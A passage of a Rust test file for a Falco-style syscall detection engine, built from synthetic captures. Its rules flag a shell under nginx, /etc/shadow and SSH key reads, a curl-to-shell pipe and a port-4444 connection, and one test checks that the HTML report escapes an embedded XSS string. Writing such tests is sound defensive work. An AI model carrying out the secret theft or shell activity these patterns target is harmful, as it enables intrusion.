//! The rule engine on hand-built and synthetic captures: Falco's
//! missing-value semantics, process ancestry, and determinism across threads.

use shrike_analyze::history::History;
use shrike_analyze::scan::{Alert, Engine, scan};
use shrike_format::{Body, Capture, Event, OwnedEvent, SockAddr, Writer, WriterOptions};
use shrike_rule_lang::{Loader, Priority};

fn ev(ts: u64, pid: u32, comm: &str, body: Body<Vec<u8>>) -> OwnedEvent {
    Event {
        ts,
        cpu: 0,
        pid,
        tid: pid,
        comm: comm.into(),
        uid: 33,
        gid: 33,
        euid: 33,
        egid: 33,
        cgroup: 1,
        body,
    }
}

/// The recorder naming cgroup `cg` (the event the cgroup kind carries).
fn cgroup(ts: u64, cg: u64, path: &str) -> OwnedEvent {
    let mut e = ev(
        ts,
        1,
        "shrike",
        Body::Cgroup {
            id: cg,
            path: path.into(),
        },
    );
    e.cgroup = 0;
    e
}

/// An exec `e` with what fd 0 and fd 1 were when it started: (fd type, inode).
fn piped(mut e: OwnedEvent, stdin: (u64, u64), stdout: (u64, u64)) -> OwnedEvent {
    if let Body::Execve {
        stdin_type,
        stdin_ino,
        stdout_type,
        stdout_ino,
        ..
    } = &mut e.body
    {
        (*stdin_type, *stdin_ino) = stdin;
        (*stdout_type, *stdout_ino) = stdout;
    }
    e
}

/// `cat` (pid 1) opening `path` for reading.
fn open(ts: u64, path: &str) -> OwnedEvent {
    ev(
        ts,
        1,
        "cat",
        Body::Openat {
            res: 3,
            dirfd: -100,
            path: path.into(),
            abspath: path.into(),
            resolved: 1,
            flags: 0,
            mode: 0,
            created: 0,
        },
    )
}

fn snapshot(pid: u32, ppid: u64, comm: &str, exe: &str) -> OwnedEvent {
    ev(
        1,
        pid,
        comm,
        Body::ProcSnapshot {
            ppid,
            exe: exe.into(),
            argv: vec![exe.into()],
            cwd: b"/".to_vec(),
            start_ts: 1,
            loginuid: u64::from(u32::MAX),
            sid: 1,
            tty: 0,
            cap_effective: 0,
            cap_permitted: 0,
            flags: 0,
            stdin_type: 0,
            stdin_ino: 0,
            stdout_type: 0,
            stdout_ino: 0,
            env: Vec::new(),
            pgid: 0,
        },
    )
}

fn exec(ts: u64, pid: u32, ppid: u64, exe: &str, argv: &[&str]) -> OwnedEvent {
    let comm = exe.rsplit('/').next().unwrap();
    ev(
        ts,
        pid,
        comm,
        Body::Execve {
            res: 0,
            filename: exe.into(),
            exe: exe.into(),
            argv: argv.iter().map(|a| a.as_bytes().to_vec()).collect(),
            cwd: b"/var/www".to_vec(),
            ppid,
            loginuid: u64::from(u32::MAX),
            sid: 1,
            tty: 0,
            cap_effective: 0,
            cap_permitted: 0,
            flags: 0,
            stdin_type: 0,
            stdin_ino: 0,
            stdout_type: 0,
            stdout_ino: 0,
            env: Vec::new(),
            pgid: 0,
        },
    )
}

fn capture(events: &[OwnedEvent]) -> Capture {
    let mut h = shrike_synth::header(9);
    h.users = vec![(0, "root".into()), (33, "www-data".into())];
    let mut w = Writer::new(
        Vec::new(),
        &h,
        WriterOptions {
            chunk_events: 3,
            ..WriterOptions::default()
        },
    )
    .unwrap();
    events.iter().for_each(|e| w.append(e).unwrap());
    Capture::from_bytes(w.finish().unwrap().0).unwrap()
}

/// Names of the rules that fire, per event in order.
fn fired(caps: &[Capture], rules: &str) -> Vec<String> {
    let mut l = Loader::new();
    l.add_str("t.yaml", rules).unwrap();
    let engine = Engine::new(&l.finish().unwrap(), Priority::Debug);
    assert!(engine.skipped.is_empty(), "{:?}", engine.skipped);
    let (alerts, _) = scan(caps, &History::build(caps), &engine);
    alerts
        .iter()
        .map(|a| format!("{}@{}", engine.rules[a.rule].name, a.ts))
        .collect()
}

fn rule(name: &str, cond: &str) -> String {
    format!(
        "- rule: {name}\n  condition: {cond}\n  output: x %proc.name %proc.pname\n  priority: INFO\n"
    )
}

#[test]
fn ancestry_and_missing_values_follow_falco() {
    let caps = [capture(&[
        snapshot(100, 1, "nginx", "/usr/sbin/nginx"),
        exec(10, 200, 100, "/bin/bash", &["bash", "-c", "id"]),
        exec(20, 300, 200, "/usr/bin/id", &["id"]),
        // An orphan: nobody knows its parent.
        exec(30, 400, 0, "/usr/bin/curl", &["curl", "x"]),
        ev(
            40,
            200,
            "bash",
            Body::Openat {
                res: 3,
                dirfd: -100,
                path: b"/etc/shadow".to_vec(),
                abspath: b"/etc/shadow".to_vec(),
                resolved: 1,
                flags: 0,
                mode: 0,
                created: 0,
            },
        ),
        ev(
            50,
            400,
            "curl",
            Body::Connect {
                res: 0,
                fd: 3,
                proto: 6,
                laddr: SockAddr::V4 {
                    ip: [10, 0, 0, 2],
                    port: 40000,
                },
                raddr: SockAddr::V4 {
                    ip: [203, 0, 113, 9],
                    port: 4444,
                },
            },
        ),
    ])];
    let rules = [
        rule("shell_under_nginx", "evt.type = execve and proc.name = bash and proc.pname = nginx"),
        rule("grandchild_of_nginx", "evt.type = execve and proc.aname[2] = nginx"),
        rule("any_ancestor_nginx", "evt.type = execve and proc.aname = nginx"),
        rule("no_parent", "evt.type = execve and not proc.pname exists"),
        rule("pname_ne", "evt.type = execve and proc.pname != bash"),
        rule("shadow", "evt.type = openat and fd.name = /etc/shadow and user.name = www-data and evt.is_open_read = true"),
        rule("not_etc", "evt.type = connect and not fd.name startswith /etc"),
        rule("pool_port", "evt.type = connect and fd.sport in (3333, 4444) and fd.net != \"10.0.0.0/8\" and fd.sip = 203.0.113.9"),
        rule("evtnum", "evt.num = 2"),
    ]
    .concat();
    let got = fired(&caps, &rules);
    let want = [
        "shell_under_nginx@10",
        "any_ancestor_nginx@10",
        "pname_ne@10",
        "evtnum@10",
        "grandchild_of_nginx@20",
        "any_ancestor_nginx@20",
        "no_parent@30",
        "shadow@40",
        "not_etc@50",
    ];
    let mut got_sorted = got.clone();
    got_sorted.sort();
    let mut want_sorted: Vec<String> = want.iter().map(|s| s.to_string()).collect();
    want_sorted.sort();
    assert_eq!(got_sorted, want_sorted, "fired: {got:?}");
    // `proc.pname != bash` is false for the orphan (its parent is missing), and fd.net != 10/8 is
    // false because one end of the connection is in 10/8 (libsinsp: neither end may match), so
    // pool_port does not fire.
}

fn alerts_with(threads: usize, caps: &[Capture], engine: &Engine) -> Vec<Alert> {
    let pool = rayon::ThreadPoolBuilder::new()
        .num_threads(threads)
        .build()
        .unwrap();
    pool.install(|| scan(caps, &History::build(caps), engine).0)
}

#[test]
fn alerts_are_identical_with_one_and_many_threads() {
    // Two files whose chunks interleave in time, so alerts must wait for the
    // other file's chunks before they can leave the window they came from.
    let mut writers: Vec<Writer<Vec<u8>>> = (0..2)
        .map(|_| {
            Writer::new(
                Vec::new(),
                &shrike_synth::header(4),
                WriterOptions {
                    chunk_events: 700,
                    ..WriterOptions::default()
                },
            )
            .unwrap()
        })
        .collect();
    for (n, e) in shrike_synth::Generator::new(4, 100_000).enumerate() {
        writers[n % 3 / 2].append(&e).unwrap();
    }
    let caps: Vec<Capture> = writers
        .into_iter()
        .map(|w| Capture::from_bytes(w.finish().unwrap().0).unwrap())
        .collect();
    let rules = [
        rule(
            "opens_passwd",
            "evt.type = openat and fd.name = /etc/passwd and proc.pname exists",
        ),
        rule(
            "tmp_unlink",
            "evt.type in (unlink, unlinkat) and evt.arg.name startswith /tmp/",
        ),
        rule("connect_https", "evt.type = connect and fd.sport = 443"),
        rule(
            "exec_by_shell",
            "evt.type = execve and proc.aname in (bash)",
        ),
    ]
    .concat();
    let mut l = Loader::new();
    l.add_str("t.yaml", &rules).unwrap();
    let engine = Engine::new(&l.finish().unwrap(), Priority::Debug);
    let one = alerts_with(1, &caps, &engine);
    let many = alerts_with(4, &caps, &engine);
    assert!(
        one.len() > 100,
        "the rules fire on the synthetic mix: {}",
        one.len()
    );
    assert_eq!(one, many);
    assert!(
        one.windows(2)
            .all(|w| (w[0].ts, w[0].file) <= (w[1].ts, w[1].file)),
        "alerts in time order"
    );
    assert!(
        one.iter().any(|a| a.file == 0) && one.iter().any(|a| a.file == 1),
        "both files fire"
    );
}

#[test]
fn the_html_report_is_self_contained_and_escapes_what_it_embeds() {
    use shrike_analyze::timeline::{Selection, build};
    let caps = [capture(&[
        snapshot(100, 1, "nginx", "/usr/sbin/nginx"),
        exec(
            10,
            200,
            100,
            "/bin/bash",
            &[
                "bash",
                "-c",
                "echo </script><script>alert(1)</script> '<!--<script>' \u{2028}",
            ],
        ),
        ev(
            40,
            200,
            "bash",
            Body::Openat {
                res: 3,
                dirfd: -100,
                path: b"/tmp/<b>".to_vec(),
                abspath: b"/tmp/<b>".to_vec(),
                resolved: 1,
                flags: 0,
                mode: 0,
                created: 0,
            },
        ),
    ])];
    let when = shrike_analyze::time::wall_ns(caps[0].header(), 40);
    let sel = Selection {
        fold: Some(shrike_analyze::report::fold([(when, 200)].into())),
        ..Selection::default()
    };
    let mut t = build(&caps, &sel).unwrap();
    t.attach_alerts(
        &[shrike_analyze::timeline::AlertMark {
            time_ns: when,
            pid: 200,
            kind: "openat",
            marked: shrike_analyze::timeline::Marked {
                rule: "a </script> rule".into(),
                priority: "Warning".into(),
                output: "<!-- out".into(),
            },
        }],
        &sel,
    );
    // A title (a capture's path) holding the data placeholder stays text.
    let mut html = Vec::new();
    shrike_analyze::report::write(&t, "x\"><script>__DATA__", "facts", &mut html).unwrap();
    let html = String::from_utf8(html).unwrap();
    // No fetches: a strict policy, and nothing loaded from elsewhere; no
    // inline markup runs but the page's own script and style, by hash.
    assert!(html.contains("default-src 'none'"));
    assert!(
        !html.contains("unsafe-inline"),
        "the policy allows inline code"
    );
    assert!(
        !html.contains(" style=\""),
        "an inline style attribute needs 'unsafe-inline'"
    );
    let csp = html
        .split("Content-Security-Policy\" content=\"")
        .nth(1)
        .unwrap()
        .split('"')
        .next()
        .unwrap();
    let script = html
        .split("<script>")
        .nth(1)
        .unwrap()
        .split("</script>")
        .next()
        .unwrap();
    let want = {
        use base64::Engine;
        use sha2::Digest;
        base64::engine::general_purpose::STANDARD.encode(sha2::Sha256::digest(script))
    };
    assert!(
        csp.contains(&format!("script-src 'sha256-{want}'")),
        "{csp}"
    );
    for bad in [
        "src=\"http",
        "href=\"http",
        "<link",
        "@import",
        "<script src",
    ] {
        assert!(!html.contains(bad), "{bad}");
    }
    // The title is escaped; the data cannot close its script element.
    assert!(html.contains("x&quot;&gt;&lt;script&gt;__DATA__</title>"));
    assert_eq!(html.matches("<script id=\"data\"").count(), 1);
    let data = html
        .split("<script id=\"data\" type=\"application/json\">")
        .nth(1)
        .unwrap()
        .split("</script>")
        .next()
        .unwrap();
    // Nothing in it the HTML parser reads as markup: no `<` (`<!--` once
    // hid the whole report), `>` or `&`, and no line separator.
    assert!(
        !data.contains(['<', '>', '&', '\u{2028}']),
        "markup characters in the data island: {data}"
    );
    let v: serde_json::Value =
        serde_json::from_str(data).expect("the embedded data is intact JSON");
    let bash = v["processes"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["pid"] == 200)
        .unwrap();
    assert!(
        bash["cmdline"]
            .as_str()
            .unwrap()
            .contains("</script><script>alert(1)")
    );
    // The action carries the rule; the alert list has it with its output.
    assert_eq!(
        bash["actions"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|a| a[4][0] == "a </script> rule")
            .count(),
        1
    );
    assert_eq!(v["alerts"][0]["output"], "<!-- out");
    // The first instant travels as a string (ns since the epoch exceed
    // JavaScript's exact integers); other times are µs after it.
    assert!(v["head"]["t0"].is_string());
}

#[test]
fn a_deleted_binary_is_marked_once_and_a_new_file_at_its_path_is_not_deleted() {
    let unlink = |ts: u64, path: &str| {
        ev(
            ts,
            900,
            "rm",
            Body::Unlinkat {
                res: 0,
                dirfd: -100,
                path: path.into(),
                abspath: path.into(),
                resolved: 1,
                flags: 0,
            },
        )
    };
    let mut events = vec![
        snapshot(100, 1, "agent", "/opt/agent"),
        snapshot(101, 1, "agent", "/opt/agent"),
    ];
    // Deleted, replaced, deleted again many times: the first two stay marked from
    // the first unlink on; a process started from the new file is marked only
    // when that file goes.
    events.push(unlink(10, "/opt/agent"));
    events.push(exec(20, 102, 1, "/opt/agent", &["/opt/agent"]));
    for t in 0..50 {
        events.push(unlink(30 + t, "/opt/other"));
    }
    events.push(unlink(100, "/opt/agent"));
    for t in 0..50 {
        events.push(unlink(200 + t, "/opt/agent"));
    }
    let caps = [capture(&events)];
    let h = History::build(&caps);
    let deleted =
        |pid: u32, ts: u64| h.at(pid, ts).unwrap().image.flags & shrike_format::EXEC_DELETED != 0;
    assert!(!deleted(100, 5) && deleted(100, 11) && deleted(100, 300));
    assert!(deleted(101, 11));
    assert!(!deleted(102, 50) && deleted(102, 100) && deleted(102, 300));
    // Snapshot + one deleted version each for 100 and 101; exec + one for 102.
    assert_eq!(h.len(), 6, "one new version per process per deletion");
}

#[test]
fn a_condition_shared_by_rules_is_remembered_per_event_not_across_events() {
    let caps = [capture(&[
        snapshot(100, 1, "nginx", "/usr/sbin/nginx"),
        exec(10, 200, 100, "/bin/bash", &["bash"]),
        exec(20, 300, 100, "/usr/bin/id", &["id"]),
        exec(30, 400, 100, "/bin/bash", &["bash"]),
    ])];
    // `by_nginx_shell` appears in three rules (once negated): each event must
    // get its own answer, whichever rule asks first.
    let rules = "- macro: by_nginx_shell\n  condition: (proc.pname = nginx and proc.name in (bash, sh, zsh, dash))\n"
        .to_string()
        + &rule("a", "evt.type = execve and by_nginx_shell")
        + &rule("b", "evt.type = execve and not by_nginx_shell")
        + &rule("c", "evt.type = execve and (by_nginx_shell or proc.name = id)");
    assert_eq!(
        fired(&caps, &rules),
        ["a@10", "c@10", "b@20", "c@20", "a@30", "c@30"]
    );
}

#[test]
fn container_ids_come_from_cgroup_paths_and_pipes_pair_writer_and_reader() {
    use shrike_format::fdtype;
    let id = "4f9a1c0e7b2d3a5f6e8c9b0a1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d0e";
    let with_stdio = |mut e: OwnedEvent, cg: u64, stdin: (u64, u64), stdout: (u64, u64)| {
        e.cgroup = cg;
        piped(e, stdin, stdout)
    };
    let tty = (fdtype::DEVICE, 3);
    let pipe = (fdtype::PIPE, 777);
    let caps = [capture(&[
        snapshot(100, 1, "bash", "/bin/bash"),
        cgroup(5, 10, "/"),
        cgroup(5, 11, &format!("/system.slice/docker-{id}.scope")),
        // `curl ... | sh` on the host: the shell happens to exec first.
        with_stdio(exec(10, 200, 100, "/bin/sh", &["sh"]), 10, pipe, tty),
        with_stdio(
            exec(11, 201, 100, "/usr/bin/curl", &["curl", "-s", "x"]),
            10,
            tty,
            pipe,
        ),
        // A shell in a container, reading its terminal.
        with_stdio(exec(20, 300, 100, "/bin/sh", &["sh"]), 11, tty, tty),
        // A cgroup the capture never named.
        with_stdio(exec(30, 400, 100, "/bin/sh", &["sh"]), 12, tty, tty),
    ])];
    let rules = rule(
        "piped",
        "evt.type = execve and shrike.stdin.writer in (curl, wget)",
    ) + &rule("in_container", "evt.type = execve and container.id != host")
        + &rule("on_host", "evt.type = execve and container.id = host")
        + &rule(
            "short_id",
            &format!("evt.type = execve and container.id = {}", &id[..12]),
        )
        + &rule(
            "stdin_pipe",
            "evt.type = execve and shrike.stdin.type = pipe",
        );
    assert_eq!(
        fired(&caps, &rules),
        [
            "piped@10",
            "on_host@10",
            "stdin_pipe@10",
            "on_host@11",
            "in_container@20",
            "short_id@20"
        ]
    );
    assert_eq!(
        shrike_analyze::fields::container_id(format!("/kubepods/burstable/pod1/{id}").as_bytes()),
        Some(&id.as_bytes()[..12])
    );
    assert_eq!(
        shrike_analyze::fields::container_id(b"/user.slice/user-1000.slice"),
        None
    );
}

/// A capture of `events` cut into chunks of `chunk_events`.
fn capture_in_chunks(events: impl IntoIterator<Item = OwnedEvent>, chunk_events: u32) -> Capture {
    let mut w = Writer::new(
        Vec::new(),
        &shrike_synth::header(6),
        WriterOptions {
            chunk_events,
            ..WriterOptions::default()
        },
    )
    .unwrap();
    for e in events {
        w.append(&e).unwrap();
    }
    Capture::from_bytes(w.finish().unwrap().0).unwrap()
}

/// The process tree of the full timeline and of the tree-only build, as comparable lines.
fn both_trees(caps: &[Capture]) -> (Vec<String>, Vec<String>) {
    use shrike_analyze::timeline::{Selection, Timeline, build};
    let shape = |t: &Timeline| {
        let mut lines: Vec<String> = t
            .processes
            .iter()
            .map(|p| {
                format!(
                    "{} {} {:?} {:?} {} {} {:?} {:?} {:?} {:?}",
                    p.pid,
                    p.ppid,
                    p.cmdline,
                    p.exe,
                    p.user,
                    p.start_ns,
                    p.end_ns,
                    p.exit_code,
                    p.exit_signal,
                    p.children
                )
            })
            .collect();
        lines.push(format!("roots {:?}", t.roots));
        lines
    };
    let full = build(caps, &Selection::default()).unwrap();
    let tree = build(
        caps,
        &Selection {
            tree_only: true,
            ..Selection::default()
        },
    )
    .unwrap();
    assert!(tree.processes.iter().all(|p| p.actions.is_empty()));
    (shape(&full), shape(&tree))
}

#[test]
fn the_tree_alone_is_the_tree_of_the_full_timeline() {
    let caps = [capture_in_chunks(
        shrike_synth::Generator::new(6, 60_000),
        1500,
    )];
    let (full, tree) = both_trees(&caps);
    assert!(full.len() > 500, "{}", full.len());
    assert_eq!(tree, full);
    // The generator names its cgroups from pid 1 before the snapshot: notes
    // about the host are not process activity, and start no life of their own.
    let t = shrike_analyze::timeline::build(&caps, &Default::default()).unwrap();
    assert_eq!(t.processes.iter().filter(|p| p.pid == 1).count(), 1);
    assert!(
        t.processes
            .iter()
            .flat_map(|p| &p.actions)
            .all(|a| a.kind != "cgroup")
    );

    // A pid that exits and acts again without a recorded fork (lost events):
    // both lives, in either build, even within one chunk.
    let exit = |ts: u64, pid: u32| {
        ev(
            ts,
            pid,
            "worker",
            Body::ProcExit {
                code: 0,
                signal: 0,
                group_dead: 1,
            },
        )
    };
    let act = |ts: u64, pid: u32| ev(ts, pid, "worker", Body::Setsid { res: 0 });
    let events = [
        act(10, 500),
        act(11, 500),
        exit(12, 500),
        act(13, 500),
        act(14, 500),
    ];
    let (full, tree) = both_trees(&[capture_in_chunks(events, 4096)]);
    assert_eq!(full.len(), 3, "two lives and the roots: {full:?}");
    assert_eq!(tree, full);
}

#[test]
fn a_scan_decodes_every_column_its_conditions_and_outputs_read() {
    // A scan decodes only the event columns its rules use: each field below
    // reads a different one, and each event's value differs from the others'.
    let mut events = vec![
        snapshot(1, 0, "systemd", "/usr/lib/systemd/systemd"),
        ev(
            2,
            1,
            "systemd",
            Body::Cgroup {
                id: 77,
                path: b"/system.slice/docker-0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef.scope".to_vec(),
            },
        ),
    ];
    for (i, ts) in [10u64, 20].into_iter().enumerate() {
        let mut e = ev(
            ts,
            1,
            "systemd",
            Body::Kill {
                res: 0,
                target_pid: 9,
                signal: 15,
            },
        );
        e.tid = 40 + i as u32;
        e.euid = 33 * i as u32;
        e.egid = 33 - 33 * i as u32;
        e.cgroup = if i == 0 { 77 } else { 5 };
        events.push(e);
    }
    let caps = [capture(&events)];
    let rules = "- rule: tid\n  condition: evt.type = kill and thread.tid = 41\n  output: t\n  priority: INFO\n\
                 - rule: out\n  condition: evt.type = kill\n  output: '%thread.tid %user.uid %user.name %group.gid %container.id %shrike.cgroup'\n  priority: INFO\n\
                 - rule: container\n  condition: evt.type = kill and container.id != host\n  output: c\n  priority: INFO\n";
    let mut l = Loader::new();
    l.add_str("t.yaml", rules).unwrap();
    let engine = Engine::new(&l.finish().unwrap(), Priority::Debug);
    let (alerts, _) = scan(&caps, &History::build(&caps), &engine);
    let got: Vec<String> = alerts
        .iter()
        .map(|a| format!("{}: {}", engine.rules[a.rule].name, a.output))
        .collect();
    assert_eq!(
        got,
        [
            "out: 40 0 root 33 0123456789ab /system.slice/docker-0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef.scope",
            "container: c",
            "tid: t",
            "out: 41 33 www-data 0 <NA> <NA>",
        ]
    );
}

#[test]
fn kind_tests_settled_at_compile_time_keep_their_meaning() {
    // Each rule's `evt.type` tests are folded for the kinds it can match,
    // so these exercise a test that always holds, one that never does, and
    // one that depends on the event.
    let kill = ev(
        30,
        1,
        "kill",
        Body::Kill {
            res: 0,
            target_pid: 2,
            signal: 9,
        },
    );
    let caps = [capture(&[
        snapshot(1, 0, "sh", "/bin/sh"),
        open(10, "/x"),
        open(20, "/y"),
        kill,
    ])];
    let rules = [
        rule(
            "either",
            "evt.type in (kill, openat) and (evt.type = kill or fd.name = /x)",
        ),
        rule("never", "evt.type = openat and evt.type = kill"),
        rule(
            "not_kill",
            "evt.type in (kill, openat) and not evt.type = kill",
        ),
        rule(
            "always_open",
            "evt.type = openat and evt.type in (openat, open)",
        ),
    ]
    .concat();
    assert_eq!(
        fired(&caps, &rules),
        [
            "either@10",
            "not_kill@10",
            "always_open@10",
            "not_kill@20",
            "always_open@20",
            "either@30",
        ]
    );
}

#[test]
fn a_reused_pid_and_a_pid_beyond_the_kernel_limit_are_each_answered_at_their_time() {
    let exit = |ts, pid| {
        ev(
            ts,
            pid,
            "x",
            Body::ProcExit {
                code: 0,
                signal: 0,
                group_dead: 1,
            },
        )
    };
    let kill = |ts, pid| {
        ev(
            ts,
            pid,
            "x",
            Body::Kill {
                res: 0,
                target_pid: 1,
                signal: 0,
            },
        )
    };
    // Pid 4194304 is past the largest pid_max: a damaged capture can hold
    // one, and it must still be answered (from the history's overflow table).
    let big = 1 << 22;
    let caps = [capture(&[
        snapshot(100, 1, "nginx", "/usr/sbin/nginx"),
        snapshot(7, 1, "cron", "/usr/sbin/cron"),
        exec(10, 300, 100, "/usr/bin/id", &["id"]),
        kill(11, 300),
        exit(12, 300),
        kill(13, 300),
        exec(20, 300, 7, "/bin/ls", &["ls"]),
        kill(21, 300),
        exec(30, big, 7, "/bin/sh", &["sh"]),
        kill(31, big),
        exec(40, big + 1, big.into(), "/bin/cat", &["cat"]),
        kill(41, big + 1),
    ])];
    let rules = rule("exe", "evt.type = kill and proc.exepath exists")
        + &rule("under_nginx", "evt.type = kill and proc.pname = nginx")
        + &rule("under_cron", "evt.type = kill and proc.pname = cron")
        + &rule(
            "under_big_sh",
            "evt.type = kill and proc.pname = sh and proc.ppid = 4194304",
        );
    assert_eq!(
        fired(&caps, &rules),
        [
            "exe@11",
            "under_nginx@11",
            // After its exit and before its reuse, pid 300 is no process.
            "exe@21",
            "under_cron@21",
            "exe@31",
            "under_cron@31",
            "exe@41",
            "under_big_sh@41",
        ]
    );
}

#[test]
fn comparisons_of_one_field_joined_by_or_keep_their_meaning() {
    // An `or` of tests on one operand runs as one step; a list of four or
    // more strings is a set that turns away values of other lengths first.
    let long = format!("/{}", "x".repeat(70));
    let caps = [capture(&[
        snapshot(1, 0, "sh", "/bin/sh"),
        open(10, "/etc/shadow"),
        open(20, "/home/al/.ssh/id_rsa"),
        open(30, "/srv/a"),
        open(40, &long),
        open(50, &format!("{long}y")),
        open(60, "/etc/shadow-"),
    ])];
    let list = format!("(/etc/shadow, /etc/gshadow, /e, {long})");
    let rules = rule(
        "any",
        &format!(
            "evt.type = openat and (fd.name in {list} or fd.name glob \"/home/*/.ssh/id_*\" or fd.name startswith /srv/)"
        ),
    ) + &rule(
        "none",
        &format!("evt.type = openat and not (fd.name in {list} or fd.name endswith /a)"),
    ) + &rule(
        "mixed",
        "evt.type = openat and (fd.name = /srv/a or proc.name = nobody or fd.name contains shadow-)",
    );
    assert_eq!(
        fired(&caps, &rules),
        [
            "any@10", "any@20", "none@20", "any@30", "mixed@30", "any@40", "none@50", "none@60",
            "mixed@60",
        ]
    );
}

#[test]
fn a_syscall_without_a_tracepoint_is_of_its_own_type_and_new_kinds_name_their_file() {
    // A `syscall` event is evt.type = its syscall's name, as libsinsp names
    // generic events; the kind shortcut must not settle it either way.
    let raw = |ts, nr| {
        ev(
            ts,
            1,
            "insmod",
            Body::Syscall {
                res: -38,
                nr,
                arg0: 0,
                arg1: 12,
                arg2: 0,
                arg3: 0,
                arg4: 0,
                arg5: 0,
            },
        )
    };
    let ioctl = ev(
        40,
        1,
        "chattr",
        Body::Ioctl {
            res: 0,
            fd: 3,
            abspath: b"/etc/passwd".to_vec(),
            request: 0x4008_6602,
            flags: 0x10,
            resolved: 1,
        },
    );
    let futimens = ev(
        50,
        1,
        "touch",
        Body::Utimensat {
            res: 0,
            dirfd: 4,
            path: Vec::new(),
            abspath: b"/etc/shadow".to_vec(),
            atime_sec: 0,
            atime_nsec: 0,
            mtime_sec: 981_173_106,
            mtime_nsec: 0,
            flags: 0,
            resolved: 1,
        },
    );
    let caps = [capture(&[
        snapshot(1, 0, "sh", "/bin/sh"),
        raw(10, 175), // init_module
        raw(20, 176), // delete_module
        open(30, "/x"),
        ioctl,
        futimens,
    ])];
    let rules = [
        rule("load", "evt.type in (init_module, finit_module)"),
        rule("not_load", "evt.type != init_module and evt.arg.arg1 = 12"),
        rule(
            "module_or_open",
            "evt.type = delete_module or evt.type = openat",
        ),
        rule(
            "fd_name",
            "fd.name in (/etc/passwd, /etc/shadow) and fd.num >= 3",
        ),
        rule("types", "evt.type in (ioctl, utimensat)"),
    ]
    .concat();
    assert_eq!(
        fired(&caps, &rules),
        [
            "load@10",
            "not_load@20",
            "module_or_open@20",
            "module_or_open@30",
            "fd_name@40",
            "types@40",
            "fd_name@50",
            "types@50",
        ]
    );
}

#[test]
fn rules_fuzz_corpus_never_panics() {
    // Every input the `rules` fuzz target kept (fuzz/corpus/rules), replayed.
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../fuzz/corpus/rules");
    let mut n = 0;
    for entry in std::fs::read_dir(&dir).unwrap_or_else(|e| panic!("{}: {e}", dir.display())) {
        let data = std::fs::read(entry.unwrap().path()).unwrap();
        shrike_analyze::fuzzing::rules_and_filter(&data);
        n += 1;
    }
    assert!(
        n >= 10,
        "the corpus in {} holds only {n} inputs",
        dir.display()
    );
}

#[test]
fn arguments_compare_by_the_names_libsinsp_gives_them() {
    // What Falco's rules compare: a ptrace request, a signal, open flags, a
    // user id, by name. shrike compared the raw numbers, so each was dead.
    let caps = [capture(&[
        snapshot(1, 0, "sh", "/bin/sh"),
        ev(
            10,
            1,
            "sh",
            Body::Ptrace {
                res: 0,
                request: 5,
                target_pid: 77,
                addr: 0x1000,
                data: 0x5348_524b,
            },
        ),
        ev(
            20,
            1,
            "sh",
            Body::Kill {
                res: 0,
                target_pid: 77,
                signal: 9,
            },
        ),
        ev(
            30,
            1,
            "sh",
            Body::Openat {
                res: 3,
                dirfd: -100,
                path: b"/root/.bash_history".to_vec(),
                abspath: b"/root/.bash_history".to_vec(),
                resolved: 1,
                flags: 0o1101,
                mode: 0o600,
                created: 0,
            },
        ),
        ev(40, 1, "sh", Body::Setuid { res: 0, uid: 33 }),
        ev(
            50,
            1,
            "sh",
            Body::Connect {
                res: -115,
                fd: 3,
                proto: 6,
                laddr: SockAddr::None,
                raddr: SockAddr::None,
            },
        ),
    ])];
    let rules = [
        rule(
            "poke",
            "evt.type = ptrace and evt.arg.request = PTRACE_POKEDATA",
        ),
        rule("kill9", "evt.type = kill and evt.arg.sig = SIGKILL"),
        rule(
            "trunc",
            "evt.type = openat and evt.arg.flags contains O_TRUNC",
        ),
        rule(
            "rdonly",
            "evt.type = openat and evt.arg.flags contains O_RDONLY",
        ),
        rule("www", "evt.type = setuid and evt.arg.uid = www-data"),
        rule("raw", "evt.type = ptrace and evt.rawarg.request = 5"),
        rule("inprogress", "evt.type = connect and evt.res = EINPROGRESS"),
    ]
    .concat();
    assert_eq!(
        fired(&caps, &rules),
        [
            "poke@10",
            "raw@10",
            "kill9@20",
            "trunc@30",
            "www@40",
            "inprogress@50"
        ]
    );
}

#[test]
fn fd_fields_follow_libsinsp() {
    let open = |ts: u64, res: i64, flags: u64, path: &str| {
        ev(
            ts,
            1,
            "sh",
            Body::Openat {
                res,
                dirfd: -100,
                path: path.into(),
                abspath: path.into(),
                resolved: 1,
                flags,
                mode: 0,
                created: 0,
            },
        )
    };
    let connect = |ts: u64, raddr: SockAddr<Vec<u8>>, laddr: SockAddr<Vec<u8>>| {
        ev(
            ts,
            1,
            "sh",
            Body::Connect {
                res: 0,
                fd: 3,
                proto: 6,
                laddr,
                raddr,
            },
        )
    };
    let caps = [capture(&[
        snapshot(1, 0, "sh", "/bin/sh"),
        open(10, -2, 0, "/etc/missing"),
        open(20, 3, 0o200000, "/etc"),
        connect(
            30,
            SockAddr::Unix(b"/run/docker.sock".to_vec()),
            SockAddr::None,
        ),
        connect(
            40,
            SockAddr::V4 {
                ip: [1, 2, 3, 4],
                port: 443,
            },
            SockAddr::V4 {
                ip: [10, 0, 0, 5],
                port: 40000,
            },
        ),
    ])];
    let rules = [
        // Falco's open_file_failed macro: dead while fd.num was -errno.
        rule(
            "failed",
            "evt.type = openat and fd.typechar = 'f' and fd.num = -1 and evt.res startswith E",
        ),
        rule("dir", "evt.type = openat and fd.typechar = 'd'"),
        rule("unix", "evt.type = connect and fd.typechar = u"),
        // != holds only when neither end matches.
        rule(
            "ne_one_end",
            "evt.type = connect and fd.typechar = 4 and fd.ip != 1.2.3.4",
        ),
        rule(
            "ne_neither",
            "evt.type = connect and fd.typechar = 4 and fd.ip != 9.9.9.9",
        ),
    ]
    .concat();
    assert_eq!(
        fired(&caps, &rules),
        ["failed@10", "dir@20", "unix@30", "ne_neither@40"]
    );
}

#[test]
fn container_metadata_has_falcos_host_values_and_is_missing_inside_containers() {
    let id = "4f9a1c0e7b2d3a5f6e8c9b0a1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d0e";
    let in_cg = |mut e: OwnedEvent, cg: u64| {
        e.cgroup = cg;
        e
    };
    let caps = [capture(&[
        cgroup(1, 10, "/user.slice/session-1.scope"),
        cgroup(2, 20, &format!("/system.slice/docker-{id}.scope")),
